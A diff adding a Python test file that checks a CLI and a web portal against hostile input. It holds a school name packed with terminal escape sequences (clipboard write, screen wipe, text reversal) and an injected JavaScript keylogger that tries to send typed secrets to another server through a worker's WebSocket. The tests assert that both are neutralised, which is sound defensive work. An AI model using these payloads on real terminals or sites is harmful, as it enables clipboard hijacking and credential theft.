@@ -1,0 +1,121 @@
+"""What somebody would try who is after a key, a password or a name; every secret and every name here is made up."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable
+from contextlib import closing
+
+import httpx
+import pytest
+from playwright.sync_api import Browser
+
+from cli.desk import TODAY, Desk, Paper, Person, Screen
+from portal.home_made_portal import OLD_KEY, HomeMade
+from portal.served import Scripted, Served, chromium, serving
+from portal.test_portal_browser_scripted import AFTER_FIELDS, PAIR, portal
+from ssrcred.cli.machine import Machine
+from ssrcred.cli.session import Session
+from ssrcred.event import Done, Event, Step
+from ssrcred.output import person
+from ssrcred.output.every import bar
+from ssrcred.place import DISTRICT, Holds
+
+__all__ = ["chromium"]
+
+TRICK = "Lincoln\x1b]52;c;bWFkZSB1cA==\x07 High\x1b[2J\x9b2J\u202egnp"
+"""The name of a school that fills the clipboard, wipes the screen and turns round what follows."""
+OBEYED = frozenset("\x1b\x07\x9b\u202e")
+
+
+def harmless(said: str) -> None:
+    """Fail the test unless the trick is there and has nothing in it that a terminal obeys; colours are ours."""
+    assert "Lincoln" in said
+    assert not OBEYED & set(said), repr(said)
+
+
+def test_the_name_of_a_school_on_a_page_is_shown_and_not_obeyed() -> None:
+    app = HomeMade()
+    app.pairs = {"District": ("OLD", OLD_KEY), TRICK: ("", "")}
+    with closing(app.portal()) as door:
+        readings = door.places()
+    out = Paper()
+    session = Session(Machine(environ={}, stdout=out, stderr=out), "schools")
+    person.places(session.console(answer=True), [(one, Holds.OTHER) for one in readings])
+    harmless(out.said)
+
+
+def a_line(session: Session) -> None:
+    session.say(f"{TRICK}: {TRICK}", style="bold")
+
+
+def a_step(session: Session) -> None:
+    session.narrator().tell(Event(Step.WRITE, Done.FAILED, TODAY, TRICK, {"reason": TRICK}))
+
+
+def a_bar(session: Session) -> None:
+    with bar(session.console(), 2, shown=True) as advance:
+        advance(TRICK)
+        session.console().print(TRICK)
+
+
+def a_question(session: Session) -> None:
+    session.asker.line(TRICK, default=TRICK)
+
+
+def an_objection(session: Session) -> None:
+    objections = [TRICK, None]
+    session.asker.until_good("Which", lambda answer: objections.pop(0))
+
+
+@pytest.mark.parametrize("told", [a_line, a_step, a_bar, a_question, an_objection])
+def test_words_from_outside_are_shown_and_not_obeyed(told: Callable[[Session], None]) -> None:
+    screen = Screen()
+    typed = Person(screen, [("", "x"), ("", "x")])
+    environ = {"TERM": "dumb", "COLUMNS": "60"}
+    told(Session(Machine(environ=environ, stdin=typed, stdout=screen, stderr=screen), "rotate"))
+    harmless(screen.shown)
+
+
+def test_the_three_lines_of_an_error_are_shown_and_not_obeyed(tmp_path_factory: pytest.TempPathFactory) -> None:
+    ran = Desk(tmp_path_factory.mktemp("desk")).run("schedule", "--what", TRICK)
+    assert ran.code == 2
+    harmless(ran.err)
+
+
+def asked_for(served: Served, path: str) -> str:
+    """The address of the first request whose path begins so, once it has come."""
+    end = time.monotonic() + 30
+    while time.monotonic() < end:
+        found = [address for _, address, _ in served.asked if address.startswith(path)]
+        if found:
+            return found[0]
+        time.sleep(0.05)
+    raise AssertionError(f"{path} was never asked for")
+
+
+@pytest.mark.real("chromium")
+@pytest.mark.filterwarnings("ignore::ResourceWarning")
+@pytest.mark.parametrize("way", ["blob", "data"])
+def test_what_was_typed_leaves_by_no_workers_socket_and_by_no_call(chromium: Browser, way: str) -> None:
+    # The browser pauses every request of a page before it is sent, but neither a worker's socket nor a call.
+    with serving(lambda request: httpx.Response(200, text="")) as other:
+        steal = """key.addEventListener("input", () => {
+            const code = `const over = () => postMessage("over"); try {
+              const socket = new WebSocket("%s/?k=${encodeURIComponent(key.value)}");
+              socket.onopen = socket.onerror = socket.onclose = over;
+            } catch (refused) { over(); }`;
+            const address = "%s" === "blob" ? URL.createObjectURL(new Blob([code]))
+              : "data:text/javascript," + encodeURIComponent(code);
+            const bare = document.createElement("iframe");
+            document.body.append(bare);
+            const calls = [window, bare.contentWindow].map((one) => typeof one.RTCPeerConnection).join("-");
+            bare.remove();
+            new Worker(address).onmessage = () => fetch("/api/done/" + calls);
+        }, { once: true })"""
+        app = Scripted(AFTER_FIELDS % (steal % (other.url.replace("http", "ws"), way)))
+        with serving(app) as served, closing(portal(served, chromium)) as door:
+            door.write(DISTRICT, PAIR)
+            assert asked_for(served, "/api/done/") == "/api/done/undefined-undefined"
+    assert not other.asked
+    assert len(app.saves) == 1
